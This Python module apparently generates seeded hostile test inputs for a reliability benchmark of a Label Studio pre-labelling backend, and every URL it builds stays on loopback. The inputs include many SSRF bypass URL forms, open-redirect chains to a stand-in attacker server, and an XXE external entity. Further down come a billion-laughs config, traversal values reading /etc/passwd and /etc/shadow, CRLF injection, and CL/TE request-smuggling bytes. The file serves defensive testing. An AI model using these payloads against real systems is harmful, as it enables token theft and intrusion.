"""Seeded hostile inputs for ``benchmarks.reliability``: image URLs, request bodies, raw HTTP requests.

Everything here is pure (no I/O): a ``random.Random`` and the loopback ports of the fake servers go in, bytes and
strings come out, the same for the same seed. Every URL generated points at loopback only (the fake Label Studio,
the "attacker" server, or loopback names and numbers that lead nowhere else), so a run never leaves the machine.
"""

from __future__ import annotations

import base64
import json
import random
import string
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

__all__ = [
    "CONFIGS",
    "URL_CLASSES",
    "FuzzCase",
    "FuzzContext",
    "HostileURL",
    "build_case",
    "fuzz_cases",
    "hostile_urls",
    "malformed_requests",
]

# ---------------------------------------------------------------------------------------------------------------
# Hostile image URLs
# ---------------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class HostileURL:
    """A task image value meant to reach the attacker, or to carry Label Studio's token elsewhere."""

    kind: str
    url: str


_PATHS = ("/x.png", "/data/upload/1/a.png", "", "/", "/latest/meta-data/", "/a.png?token=x", "/%2e%2e/x.png")


def _direct(rng: random.Random, a: int, ls: int) -> dict[str, list[str]]:
    """Templates per class that point at the attacker (port ``a``) directly, or mix it with Label Studio's."""
    return {
        "backslash": [
            f"http://127.0.0.1:{a}\\@127.0.0.1:{ls}",
            f"http://127.0.0.1:{ls}\\@127.0.0.1:{a}",
            f"http://127.0.0.1:{a}\\\\@127.0.0.1:{ls}",
            f"http:\\\\127.0.0.1:{a}",
            f"http:/\\127.0.0.1:{a}",
            f"http://127.0.0.1:{a}\\.127.0.0.1:{ls}",
            f"http://127.0.0.1:{ls}\\\\127.0.0.1:{a}",
        ],
        "userinfo": [
            f"http://127.0.0.1:{ls}@127.0.0.1:{a}",
            f"http://u:p@127.0.0.1:{a}",
            f"http://127.0.0.1:{a}@127.0.0.1:{ls}",
            f"http://127.0.0.1:{ls}:x@localhost:{a}",
            f"http://@127.0.0.1:{a}",
            f"http://127.0.0.1:{a}#@127.0.0.1:{ls}",
            f"http://127.0.0.1:{a}?@127.0.0.1:{ls}",
            f"http://%40@127.0.0.1:{a}",
        ],
        "numeric-host": [
            f"http://127.1:{a}",
            f"http://0x7f.1:{a}",
            f"http://0x7f.0.0.1:{a}",
            f"http://0x7f000001:{a}",
            f"http://2130706433:{a}",
            f"http://017700000001:{a}",
            f"http://0177.0.0.1:{a}",
            f"http://127.0.0.01:{a}",
            f"http://127.000.000.001:{a}",
            f"http://0:{a}",
            f"http://127.0.1:{a}",
            f"http://0X7F.0.0.1:{a}",
        ],
        "mixed-case": [
            f"HTTP://127.0.0.1:{a}",
            f"hTtP://LOCALHOST:{a}",
            f"http://LocalHost:{a}",
            f"Http://localHOST:{ls}",  # Label Studio's port under another name: not its origin
            f"HTTPS://127.0.0.1:{a}",
        ],
        "port-trick": [
            f"http://127.0.0.1:0{a}",
            f"http://127.0.0.1:{a + 65536}",
            f"http://127.0.0.1:{a}:{ls}",
            f"http://127.0.0.1:{ls}:{a}",
            f"https://127.0.0.1:{ls}",  # Label Studio's host and port, another scheme
            f"http://localhost:{a}",
            f"http://127.0.0.1:+{a}",
            f"http://127.0.0.1: {a}",
        ],
        "percent-host": [
            f"http://%31%32%37.0.0.1:{a}",
            f"http://127%2e0%2e0%2e1:{a}",
            f"http://127.0.0.1%3a{a}",
            f"http://%6c%6f%63%61%6c%68%6f%73%74:{a}",
            f"http://127.0.0.1%2f@127.0.0.1:{a}",
            f"http://127.0.0.1%00.example:{a}",
        ],
        "ipv6": [
            f"http://[::1]:{a}",
            f"http://[::ffff:127.0.0.1]:{a}",
            f"http://[0:0:0:0:0:0:0:1]:{a}",
            f"http://[::ffff:7f00:1]:{a}",
            f"http://[::1%25lo]:{a}",
            f"http://[::127.0.0.1]:{a}",
            f"http://[0000::1]:{a}",
        ],
        "localhost-name": [
            f"http://localhost:{a}",
            f"http://localhost.:{a}",
            f"http://127.0.0.1.:{a}",
            f"http://0.0.0.0:{a}",
            f"http://127.0.0.2:{a}",
            f"http://127.255.255.254:{a}",
        ],
        "scheme": [
            f"//127.0.0.1:{a}",
            f"http:127.0.0.1:{a}",
            f"http:/127.0.0.1:{a}",
            f"http:///127.0.0.1:{a}",
            f"ftp://127.0.0.1:{a}",
            f"gopher://127.0.0.1:{a}/_GET",
            f"file://127.0.0.1:{a}/etc/passwd",
            f"dict://127.0.0.1:{a}",
            f"ws://127.0.0.1:{a}",
        ],
        "whitespace-control": [
            f"http://127.0.0.1:{a}\t",
            f"http://127.0.0.1 :{a}",
            f"http://127.0.0.1:{ls}\r\nHost: 127.0.0.1:{a}\r\n",
            f"http://127.0.0.1:{ls}\x00@127.0.0.1:{a}",
            f" http://127.0.0.1:{a}",
            f"http://127.0.0.1:{ls}%0d%0aHost:%20127.0.0.1:{a}",
            f"http://\u00a0127.0.0.1:{a}",
        ],
        "unicode": [
            f"http://１２７.0.0.1:{a}",
            f"http://127.0.0.1：{a}",
            f"http://127。0。0。1:{a}",
            f"http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:{a}",
            f"http://127.0.0.1:{ls}\u2044@127.0.0.1:{a}",
            f"http://127.0.0.1:{ls}\uff3c@127.0.0.1:{a}",
        ],
    }


# Classes that go through the fake Label Studio and are sent elsewhere from there.
_VIA_LS = ("ls-redirect", "ls-path-redirect", "s3-presign-redirect", "ls-redirect-chain")
URL_CLASSES: tuple[str, ...] = (*_direct(random.Random(0), 1, 2), *_VIA_LS)


def _case(rng: random.Random, url: str) -> str:
    """Randomly upper-case the scheme letters (parsers must all agree that ``hTTp`` is ``http``)."""
    scheme, sep, rest = url.partition("://")
    if sep and rng.random() < 0.3:
        scheme = "".join(c.upper() if rng.random() < 0.5 else c for c in scheme)
    return scheme + sep + rest


def hostile_urls(rng: random.Random, ls_port: int, attacker_port: int, count: int) -> list[HostileURL]:
    """``count`` distinct hostile image values covering every class of ``URL_CLASSES`` (round-robin).

    Args:
        rng: The seeded generator.
        ls_port: Port of the fake Label Studio on 127.0.0.1 (the only origin allowed to get the token).
        attacker_port: Port of the attacker on 127.0.0.1 (and ``::1``).
        count: How many to make.
    """
    a, ls = attacker_port, ls_port
    direct = _direct(rng, a, ls)
    flat = [url for urls in direct.values() for url in urls]
    found: dict[str, HostileURL] = {}
    classes = list(URL_CLASSES)
    tries = 0
    while len(found) < count and tries < count * 50:
        kind = classes[tries % len(classes)]
        tries += 1
        path = rng.choice(_PATHS)
        if kind in direct:
            url = _case(rng, rng.choice(direct[kind]) + path)
        else:
            inner = rng.choice(flat) + path
            if kind == "ls-redirect":  # Label Studio (an open redirect on it) sends the fetch to the attacker
                url = f"http://127.0.0.1:{ls}/redirect?code={rng.choice((301, 302, 303, 307, 308))}&to={quote(inner)}"
            elif kind == "ls-path-redirect":  # the same from a Label Studio path (which gets the token)
                url = f"/data/upload/../../redirect?code={rng.choice((302, 307))}&to={quote(inner)}"
            elif kind == "ls-redirect-chain":  # Label Studio -> Label Studio -> attacker
                hop = f"http://127.0.0.1:{ls}/redirect?code=302&to={quote(inner)}"
                url = f"http://127.0.0.1:{ls}/redirect?code=307&to={quote(hop)}"
            else:  # a cloud URI whose pre-signed URL (from Label Studio) points at the attacker
                token = base64.urlsafe_b64encode(inner.encode()).decode().rstrip("=")
                url = f"{rng.choice(('s3', 'gs', 'azure-blob'))}://bucket/redirect/{token}.png"
        found.setdefault(url, HostileURL(kind, url))
    return list(found.values())


def redirect_target(uri_path: str) -> str | None:
    """The URL a ``s3://bucket/redirect/<token>.png`` URI's pre-signed URL redirects to (the fake LS's side)."""
    token = uri_path.rsplit("/redirect/", 1)[-1].removesuffix(".png")
    try:
        return base64.urlsafe_b64decode(token + "=" * (-len(token) % 4)).decode()
    except ValueError:
        return None


# ---------------------------------------------------------------------------------------------------------------
# Request bodies
# ---------------------------------------------------------------------------------------------------------------

RECT = """<View><Image name="image" value="$image"/>
<RectangleLabels name="label" toName="image"><Label value="Cat" predicted_values="a cat,cat"/><Label value="Remote"/>
</RectangleLabels></View>"""
SMART = """<View><Image name="image" value="$image"/>
<KeyPointLabels name="click" toName="image" smart="true"><Label value="Cat"/><Label value="Dog"/></KeyPointLabels>
<RectangleLabels name="box" toName="image" smart="true"><Label value="Cat"/></RectangleLabels>
<BrushLabels name="mask" toName="image"><Label value="Cat"/><Label value="Dog"/></BrushLabels></View>"""
CHOICES = """<View><Image name="image" value="$image"/>
<Choices name="kind" toName="image" choice="multiple"><Choice value="Cat"/><Choice value="Dog"/></Choices></View>"""
POLYGON = """<View><Image name="image" value="$image"/>
<PolygonLabels name="poly" toName="image"><Label value="Cat"/></PolygonLabels></View>"""
TWO_IMAGES = """<View><Image name="left" value="$left"/><Image name="right" value="$image"/>
<RectangleLabels name="a" toName="left"><Label value="Cat"/></RectangleLabels>
<RectangleLabels name="b" toName="right" model_score_threshold="0.1"><Label value="Dog"/></RectangleLabels></View>"""
CONFIGS: dict[str, str] = {"rect": RECT, "smart": SMART, "choices": CHOICES, "polygon": POLYGON, "two": TWO_IMAGES}


def _bad_configs(attacker_port: int) -> list[str]:
    xxe = f'<!DOCTYPE v [<!ENTITY x SYSTEM "http://127.0.0.1:{attacker_port}/xxe">]>'
    laughs = '<!DOCTYPE v [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    laughs += '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    return [
        "<View>",
        "not xml at all",
        "<View></View>",
        '<View><Image name="image" value="$image"/></View>',
        '<View><RectangleLabels name="l" toName="nowhere"><Label value="A"/></RectangleLabels></View>',
        '<View><Image name="image" value="image"/><RectangleLabels name="l" toName="image"/></View>',
        xxe + '<View><Image name="image" value="$image"/><RectangleLabels name="l" toName="image">'
        '<Label value="&x;"/></RectangleLabels></View>',
        laughs + '<View><Image name="image" value="$image"/><RectangleLabels name="l" toName="image">'
        '<Label value="&d;"/></RectangleLabels></View>',
        RECT.replace("RectangleLabels", "rectanglelabels"),
        RECT.replace('value="$image"', 'value="$"'),
        RECT.replace('name="label"', 'name=""'),
        SMART.replace('smart="true"', 'smart="yes please"'),
        "<View>" + "<View>" * 500 + "</View>" * 501,
        RECT.replace('<Label value="Remote"/>', "".join(f'<Label value="L{i}"/>' for i in range(300))),
        RECT.replace("Cat", "\u202eCat\u0000"),
    ]


@dataclass(frozen=True)
class FuzzContext:
    """What bodies may refer to: the fake servers, a few small images as data URIs, the tiny models' folders."""

    ls_port: int
    attacker_port: int
    small_images: tuple[str, ...]  # data URIs
    model_dirs: tuple[str, ...]  # folders holding real (tiny) models
    urls: tuple[HostileURL, ...]


@dataclass(frozen=True)
class FuzzCase:
    """One fuzzed request: its route, the class of input, and the seed that rebuilds it."""

    route: str
    kind: str
    seed: int


# (route, kind, weight): the mix of a run. "huge" bodies are few: each is over the body limit.
_MIX: tuple[tuple[str, str, int], ...] = (
    ("/setup", "valid-random", 14),
    ("/setup", "wrong-types", 6),
    ("/setup", "surrogate", 2),
    ("/setup", "deep", 1),
    ("/setup", "non-json", 2),
    ("/predict", "batch", 18),
    ("/predict", "interactive", 8),
    ("/predict", "surrogate", 2),
    ("/predict", "deep", 1),
    ("/predict", "non-json", 2),
    ("/webhook", "random", 10),
    ("/webhook", "deep", 1),
    ("/webhook", "non-json", 2),
    ("/webhook", "surrogate", 1),
    ("/versions", "query", 9),
    ("/versions", "body", 4),
    ("other", "method-or-path", 4),
)
HUGE_PER_ROUTE = 12


def fuzz_cases(rng: random.Random, total: int) -> list[FuzzCase]:
    """``total`` cases in the proportions of ``_MIX``, plus ``HUGE_PER_ROUTE`` over-the-limit bodies per POST route."""
    weights = sum(w for _, _, w in _MIX)
    cases = [
        FuzzCase(route, kind, rng.getrandbits(48))
        for route, kind, weight in _MIX
        for _ in range(max(1, total * weight // weights))
    ]
    cases += [FuzzCase(r, "huge", rng.getrandbits(48)) for r in ("/setup", "/predict", "/webhook") for _ in range(12)]
    while len(cases) < total:
        route, kind, _ = rng.choice(_MIX)
        cases.append(FuzzCase(route, kind, rng.getrandbits(48)))
    rng.shuffle(cases)
    return cases


@dataclass(frozen=True)
class Request:
    """An HTTP request to send to prelabel."""

    method: str
    path: str
    body: bytes | None
    headers: dict[str, str]
    chunked: bool = False


def _text(rng: random.Random, size: int = 12) -> str:
    alphabet = string.printable + "éü中\u202e\u0000\U0001f600"
    return "".join(rng.choice(alphabet) for _ in range(rng.randint(0, size)))


def _scalar(rng: random.Random) -> object:
    return rng.choice(
        [
            None,
            True,
            False,
            0,
            -1,
            rng.randint(-(2**70), 2**70),
            rng.uniform(-1e6, 1e6),
            1e308,
            -0.0,
            "",
            _text(rng),
            "x" * rng.randint(1, 5000),
        ]
    )


def _junk(rng: random.Random, depth: int = 0) -> object:
    """Any JSON value, a few levels deep."""
    roll = rng.random()
    if depth > 3 or roll < 0.5:
        return _scalar(rng)
    if roll < 0.75:
        return [_junk(rng, depth + 1) for _ in range(rng.randint(0, 4))]
    return {_text(rng, 6): _junk(rng, depth + 1) for _ in range(rng.randint(0, 4))}


def _project(rng: random.Random) -> object:
    roll = rng.random()
    if roll < 0.7:
        return f"{rng.randint(1, 30)}.1700000000"  # a bounded set of plausible keys
    if roll < 0.8:
        return rng.randint(1, 30)
    return rng.choice([None, "", 1.5, [], {"id": 1}, True, "abc", "-1", "1." + "9" * 50, _text(rng)])


def _image_value(rng: random.Random, ctx: FuzzContext) -> object:
    roll = rng.random()
    ls = f"http://127.0.0.1:{ctx.ls_port}"
    if roll < 0.35:
        return rng.choice(ctx.small_images)
    if roll < 0.5:
        return rng.choice(ctx.urls).url
    choices: list[object] = [
        "data:image/png;base64,!!!notbase64",
        "data:image/png,rawbytes",
        "data:image/png;base64," + base64.b64encode(b"not an image at all").decode(),
        "data:image/png;base64," + rng.choice(ctx.small_images).partition(",")[2][:40],  # a truncated PNG
        "data:;base64,",
        "data:image/svg+xml;base64,"
        + base64.b64encode(
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:{ctx.attacker_port}/"/></svg>'.encode()
        ).decode(),
        f"/data/upload/1/{rng.randint(0, 9)}.png",
        "/data/upload/missing.png",
        f"{ls}/data/upload/2/b.png",
        "/data/local-files/?d=img.png",
        "/data/local-files/?d=../../../../etc/passwd",
        "/data/local-files/?d=%2e%2e/%2e%2e/etc/shadow",
        "/data/local-files/?d=",
        "/data/local-files/?d=/etc/passwd",
        "/data/local-files/?d=dir",
        "s3://bucket/ok/a.png",
        "s3://bucket/missing.png",
        "gs://",
        "azure-blob://c/x.png",
        "ftp://127.0.0.1/x.png",
        "",
        "   ",
        _text(rng, 40),
        "x" * rng.randint(1000, 20000),
        None,
        5,
        [],
        {"url": "/data/upload/1/a.png"},
        True,
    ]
    return rng.choice(choices)


def _task(rng: random.Random, ctx: FuzzContext) -> object:
    roll = rng.random()
    if roll < 0.06:
        return rng.choice([None, 5, "task", [], {}, {"data": None}, {"data": []}, {"data": "x"}])
    data: dict[str, object] = {"image": _image_value(rng, ctx)}
    if rng.random() < 0.3:
        data["left"] = _image_value(rng, ctx)
    if rng.random() < 0.1:
        data.pop("image")
    if rng.random() < 0.2:
        data[_text(rng, 5)] = _junk(rng)
    task_id = rng.choice([rng.randint(1, 10**6), rng.randint(1, 10**6), None, "7", -1, 2**80, 1.5, True, []])
    task: dict[str, object] = {"id": task_id, "data": data}
    if rng.random() < 0.3:
        task.update({"meta": _junk(rng), "annotations": [], "predictions": _junk(rng), "drafts": []})
    return task


def _config(rng: random.Random, ctx: FuzzContext) -> object:
    roll = rng.random()
    if roll < 0.75:
        return rng.choice(list(CONFIGS.values()))
    if roll < 0.93:
        return rng.choice(_bad_configs(ctx.attacker_port))
    return rng.choice([None, "", 5, [], {"View": 1}, True])


def _extra_params(rng: random.Random, ctx: FuzzContext) -> object:
    """Settings: mostly well formed with random values, some of the wrong type or pointing at nothing."""
    roll = rng.random()
    if roll < 0.08:
        return rng.choice([None, "", "{not json", "[]", "5", 5, [], True, '{"detection": {"model": 1.5}}'])
    sections = ("detection", "classification", "segmentation", "interactive")
    extra: dict[str, object] = {}
    for section in rng.sample(sections, rng.randint(0, 3)):
        knobs: dict[str, object] = {}
        if rng.random() < 0.3:
            knobs["model"] = rng.choice(
                ["grounding_dino", "owlv2", "owlvit", "clip", "siglip", "sam", "sam2", "no_such_model", "grounding_dino.tiny",
                 1.5, None, [], {"a": 1}, ""]
            )  # fmt: skip
        if rng.random() < 0.25:
            knobs["model_id"] = rng.choice(
                [*ctx.model_dirs, f"/nonexistent/prelabel-reliability/{rng.randint(0, 99)}", "", 3, ["a"],
                 "../../../../etc", f"http://127.0.0.1:{ctx.attacker_port}/model.pth", "org/not-cached-model"]
            )  # fmt: skip
        for knob in ("score_threshold", "text_threshold", "nms_threshold", "max_detections", "polygon_tolerance",
                     "min_area", "class_agnostic_nms", "device", "dtype", "polygon_parts", "templates", "mask_threshold",
                     "unknown_knob"):  # fmt: skip
            if rng.random() < 0.12:
                knobs[knob] = rng.choice(
                    [rng.random(), rng.uniform(-2, 3), rng.randint(-5, 10**9), "0.3", None, True, [], "cpu", "cuda:9",
                     "float16", "all", ["a photo of {}."], ["{}{}{}"], float("inf")]
                )  # fmt: skip
        extra[section] = knobs if rng.random() < 0.95 else rng.choice([1.5, "x", None, []])
    if rng.random() < 0.2:
        extra["prompts"] = rng.choice(
            [{"Cat": ["cat", "kitten"]}, {"Cat": "cat, kitty"}, {"Nope": ["x"]}, {"Cat": 5}, []]
        )
    if rng.random() < 0.1:
        extra["examples"] = rng.choice(
            [{"Cat": [{"image": rng.choice(ctx.small_images), "x": 1, "y": 1, "width": 50, "height": 50}]},
             {"Cat": [{"image": rng.choice(ctx.urls).url, "x": 1, "y": 1, "width": 5, "height": 5}]},
             {"Cat": [{"x": "a"}]}, {"Cat": 3}]
        )  # fmt: skip
    if rng.random() < 0.1:
        extra["controls"] = rng.choice([{"label": {"score_threshold": rng.random()}}, {"nope": {}}, {"label": 3}])
    if rng.random() < 0.05:
        extra[_text(rng, 6)] = _junk(rng)
    if rng.random() < 0.1:
        return json.dumps(extra)  # Label Studio may send it as a JSON string
    return extra


def _region(rng: random.Random) -> object:
    kind = rng.choice(["keypointlabels", "rectanglelabels", "brushlabels", "junk"])
    value: dict[str, object] = {"x": rng.uniform(-10, 110), "y": rng.uniform(-10, 110)}
    if kind == "rectanglelabels":
        value.update({"width": rng.uniform(-5, 120), "height": rng.uniform(-5, 120), "rectanglelabels": ["Cat"]})
    else:
        value["keypointlabels"] = [rng.choice(["Cat", "Dog", "Nope", 5])]
    region: dict[str, object] = {
        "from_name": rng.choice(["click", "box", "click", "mask", "nope", None, 5]),
        "to_name": "image",
        "type": kind,
        "value": value,
        "is_positive": rng.choice([True, False, None, "yes"]),
        "id": _text(rng, 8),
    }
    if rng.random() < 0.15:
        region.pop("from_name")  # the class the hardening issue names: smart-tool regions without from_name
    if rng.random() < 0.1:
        region["value"] = _junk(rng)
    if rng.random() < 0.05:
        value["x"] = rng.choice(["NaN", None, [], "1e999"])
    return region if rng.random() < 0.95 else _junk(rng)


def _deep(rng: random.Random) -> str:
    depth = rng.choice([65, 1000, 5000, 100_000])
    opener, closer = rng.choice([("[", "]"), ('{"a":', "}")])
    return opener * depth + "1" + closer * depth


def _with_surrogate(rng: random.Random, body: dict[str, object], fields: tuple[str, ...]) -> bytes:
    """The body as JSON text with a lone surrogate escape (``"\\ud800"``) in one of ``fields``."""
    field = rng.choice(fields)
    marker = "SURROGATE-MARK"
    body[field] = rng.choice(["", "x", "3.1700000000"]) + marker
    text = json.dumps(body)
    return text.replace(marker, rng.choice(["\\ud800", "\\udfff", "\\udbff\\u0041", "\\ud83d"])).encode()


def _non_json(rng: random.Random) -> bytes:
    choices = [
        bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 400))),
        b'{"project": "1.1", "schema": ',
        b"\xef\xbb\xbf{}",
        b'{"a": NaN, "b": Infinity, "c": -Infinity}',
        b'{"n": ' + b"9" * 5000 + b"}",
        b"[]",
        b"null",
        b'"just a string"',
        b"1e999",
        b'{"tasks": [}',
        b'{"\xff\xfe": 1}',
        b"\x00" * 50,
        b"project=1&schema=x",
        b"{'single': 'quotes'}",
        b'{"a":1}{"b":2}',
        b'{"dup": 1, "dup": 2, "tasks": []}',
        '{"project": "é"}'.encode("latin-1"),
    ]
    return rng.choice(choices)


def _huge(rng: random.Random, limit: int) -> tuple[bytes, bool]:
    size = int(limit * rng.uniform(1.05, 3.0))
    padding = "x" * size
    body = json.dumps({"tasks": [], "schema": padding, "action": "X", "pad": padding[:10]}).encode()
    return body, rng.random() < 0.3  # sometimes chunked: no Content-Length to refuse it by


def build_case(case: FuzzCase, ctx: FuzzContext, body_limit: int) -> Request:
    """The request a case stands for (rebuilt from its seed)."""
    rng = random.Random(case.seed)
    json_headers = {
        "Content-Type": rng.choice(["application/json"] * 6 + ["text/plain", "", "application/x-www-form-urlencoded"])
    }
    route, kind = case.route, case.kind
    if kind == "deep":
        return Request("POST", route, f'{{"tasks": {_deep(rng)}, "schema": "x", "action": "A"}}'.encode(), json_headers)
    if kind == "non-json":
        return Request("POST", route, _non_json(rng), json_headers)
    if kind == "huge":
        body, chunked = _huge(rng, body_limit)
        return Request("POST", route, body, {"Content-Type": "application/json"}, chunked=chunked)
    if route == "/setup":
        body = {
            "project": _project(rng),
            "schema": _config(rng, ctx),
            "hostname": rng.choice([f"http://127.0.0.1:{ctx.ls_port}", None, "", rng.choice(ctx.urls).url]),
            "access_token": rng.choice(["0123456789abcdef" * 2, None, "", _text(rng, 50)]),
            "extra_params": _extra_params(rng, ctx),
        }
        if kind == "wrong-types":
            for key in rng.sample(list(body), rng.randint(1, 3)):
                body[key] = _junk(rng)
            body["extra_params"] = rng.choice(
                [{"detection": {"model": 1.5}}, {"detection": {"model_id": ["a"]}}, {"detection": {"device": 0}},
                 {"controls": {"label": {"dtype": None}}}, {"detection": {"score_threshold": "high"}},
                 {"classification": {"templates": "a {}"}}, {"detection": []}, body["extra_params"]]
            )  # fmt: skip
        if kind == "surrogate":
            return Request(
                "POST",
                route,
                _with_surrogate(rng, body, ("project", "hostname", "access_token", "schema")),
                json_headers,
            )
        if rng.random() < 0.1:
            body.pop(rng.choice(list(body)))
        return Request("POST", route, json.dumps(body).encode(), json_headers)
    if route == "/predict":
        interactive = kind == "interactive"
        count = rng.choice([1, 1, 1, 0, 2]) if interactive else rng.choice([0, 1, 1, 2, 3, 4])
        body = {"tasks": [_task(rng, ctx) for _ in range(count)], "project": _project(rng)}
        if rng.random() < 0.9:
            body["label_config"] = CONFIGS["smart"] if interactive and rng.random() < 0.8 else _config(rng, ctx)
        if interactive:
            regions = [_region(rng) for _ in range(rng.randint(0, 3))]
            context = (
                {"result": regions} if rng.random() < 0.9 else rng.choice([{"result": 5}, {"result": [5]}, [], "x"])
            )
            body["params"] = {"login": None, "password": None, "context": context}
        else:
            body["params"] = rng.choice(
                [{"context": None}, {}, None, {"context": {}}, {"context": {"result": []}}, 5, []]
            )
        if rng.random() < 0.05:
            body["tasks"] = _junk(rng)
        if kind == "surrogate":
            return Request("POST", route, _with_surrogate(rng, body, ("project", "label_config")), json_headers)
        return Request("POST", route, json.dumps(body).encode(), json_headers)
    if route == "/webhook":
        body = {
            "action": rng.choice(
                ["ANNOTATION_CREATED", "START_TRAINING", "PROJECT_UPDATED", None, 5, "", [], _text(rng)]
            ),
            "project": rng.choice([{"id": rng.randint(1, 30)}, rng.randint(1, 30), None, "x", [], {"id": []}]),
            "annotation": _junk(rng),
            "task": _junk(rng),
        }
        if kind == "surrogate":
            return Request("POST", route, _with_surrogate(rng, body, ("action", "project")), json_headers)
        if rng.random() < 0.1:
            body = _junk(rng)  # type: ignore[assignment]
        return Request("POST", route, json.dumps(body).encode(), json_headers)
    if route == "/versions":
        if kind == "body":
            raw = json.dumps({"project": _project(rng)}).encode() if rng.random() < 0.6 else _non_json(rng)
            return Request("GET", route, raw, json_headers)
        value = rng.choice(
            [str(_project(rng)), "", "%ed%a0%80", "%ff%fe", "%00", "1" * 5000, "%25", "1&project=2", quote(_text(rng))]
        )
        return Request("GET", f"/versions?project={value}" if rng.random() < 0.9 else "/versions", None, {})
    method, path = rng.choice(
        [("GET", "/setup"), ("PUT", "/predict"), ("DELETE", "/webhook"), ("POST", "/versions"), ("POST", "/health"),
         ("GET", "/nope"), ("POST", "/predict/"), ("GET", "/%ff"), ("PATCH", "/"), ("OPTIONS", "/predict"),
         ("GET", "/metrics/../setup"), ("POST", "//setup")]
    )  # fmt: skip
    return Request(method, path, json.dumps({"tasks": []}).encode() if method != "GET" else None, json_headers)


# ---------------------------------------------------------------------------------------------------------------
# Raw malformed HTTP requests
# ---------------------------------------------------------------------------------------------------------------

_CHUNKED = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"


def _raw_templates(rng: random.Random, attacker_port: int) -> dict[str, Callable[[], bytes]]:
    def rand_bytes(n: int) -> bytes:
        return bytes(rng.getrandbits(8) for _ in range(n))

    route = lambda: rng.choice([b"/health", b"/setup", b"/predict", b"/webhook", b"/versions", b"/"])  # noqa: E731
    return {
        "long request line": lambda: b"GET " + route() + b"?" + b"a" * rng.randint(4090, 20000) + b" HTTP/1.1\r\n\r\n",
        "many headers": lambda: (
            b"GET /health HTTP/1.1\r\n" + b"".join(b"X-H%d: v\r\n" % i for i in range(rng.randint(101, 400))) + b"\r\n"
        ),
        "long header": lambda: b"GET /health HTTP/1.1\r\nX-Big: " + b"v" * rng.randint(8190, 30000) + b"\r\n\r\n",
        "bad header name": lambda: (
            b"GET /health HTTP/1.1\r\n"
            + rng.choice([b"Bad Header: v", b"X\x00: v", b": v", b"X(y): v", b"\x7f: v", b"no colon"])
            + b"\r\n\r\n"
        ),
        "bad header value": lambda: (
            b"GET /health HTTP/1.1\r\nX-A: " + rng.choice([b"\x00", b"a\rb", b"\x01\x02"]) + b"\r\n\r\n"
        ),
        "bad method": lambda: (
            rng.choice([b"G@T", b"GE T", b"\x00GET", b"get", b"", b"POST\t", b"M" * 40]) + b" /health HTTP/1.1\r\n\r\n"
        ),
        "bad version": lambda: (
            b"GET /health "
            + rng.choice(
                [b"HTTP/9.9", b"HTTP/1.x", b"HTTP/01.1", b"HTTP/1", b"HTTPS/1.1", b"http/1.1", b"HTTP/1.1 extra"]
            )
            + b"\r\n\r\n"
        ),
        "no version": lambda: b"GET " + route() + b"\r\n\r\n",
        "bad content-length": lambda: (
            b"POST /setup HTTP/1.1\r\nContent-Length: "
            + rng.choice([b"ten", b"-1", b"1e3", b"99999999999999999999", b"1, 2", b" ", b"0x10"])
            + b"\r\n\r\n{}"
        ),
        "two content-lengths": lambda: b"POST /setup HTTP/1.1\r\nContent-Length: 2\r\nContent-Length: 5\r\n\r\n{}",
        "unsupported coding": lambda: (
            b"POST /setup HTTP/1.1\r\nTransfer-Encoding: "
            + rng.choice([b"br", b"gzip", b"gzip, chunked", b"identity", b"chunked, chunked", b"x"])
            + b"\r\n\r\n2\r\n{}\r\n0\r\n\r\n"
        ),
        "CL and TE": lambda: (
            b"POST /setup HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n"
        ),
        "bad chunk size": lambda: (
            _CHUNKED
            + rng.choice([b"zz", b"-2", b"ffffffffffffffffffff", b"", b" 2", b"2 ", b"0x2"])
            + b"\r\n{}\r\n0\r\n\r\n"
        ),
        "bad chunk terminator": lambda: _CHUNKED + b"2\r\n{}" + rng.choice([b"XX", b"\n", b"\r", b""]) + b"0\r\n\r\n",
        "bad chunk extension": lambda: (
            _CHUNKED + b"2;" + rng.choice([b"a\x00b", b"\x7f", b"=" * 10]) + b"\r\n{}\r\n0\r\n\r\n"
        ),
        "bad trailer": lambda: (
            _CHUNKED + b"2\r\n{}\r\n0\r\n" + rng.choice([b"Bad Trailer: x\r\n", b"X" * 9000 + b": y\r\n"]) + b"\r\n"
        ),
        "chunked body cut short": lambda: _CHUNKED + b"9\r\n{}",
        "chunk longer than said": lambda: _CHUNKED + b"2\r\n{}{}{}\r\n0\r\n\r\n",
        "body shorter than length": lambda: b"POST /webhook HTTP/1.1\r\nContent-Length: 100\r\n\r\n{}",
        "garbage": lambda: rand_bytes(rng.randint(1, 2000)),
        "garbage line": lambda: rand_bytes(rng.randint(1, 200)).replace(b"\r\n", b"") + b"\r\n\r\n",
        "NUL in target": lambda: b"GET /hea\x00lth HTTP/1.1\r\n\r\n",
        "LF only": lambda: b"GET /health HTTP/1.1\nHost: x\n\n",
        "CR only": lambda: b"GET /health HTTP/1.1\rHost: x\r\r",
        "absolute form to attacker": lambda: (
            b"GET http://127.0.0.1:%d/x HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (attacker_port, attacker_port)
        ),
        "CONNECT to attacker": lambda: b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % attacker_port,
        "pipelined then garbage": lambda: b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n" + rand_bytes(rng.randint(1, 300)),
        "header folding": lambda: b"GET /health HTTP/1.1\r\nX-A: a\r\n  folded\r\n\r\n",
        "incomplete headers": lambda: b"POST /predict HTTP/1.1\r\nContent-Len",
        "huge chunk declared": lambda: _CHUNKED + b"7fffffff\r\n{}",
        "Expect 100-continue": lambda: b"POST /setup HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\n{}",
        "HTTP/0.9": lambda: b"GET /health\r\n",
        "non-ASCII target": lambda: "GET /héalth?é=ü HTTP/1.1\r\n\r\n".encode(),
    }


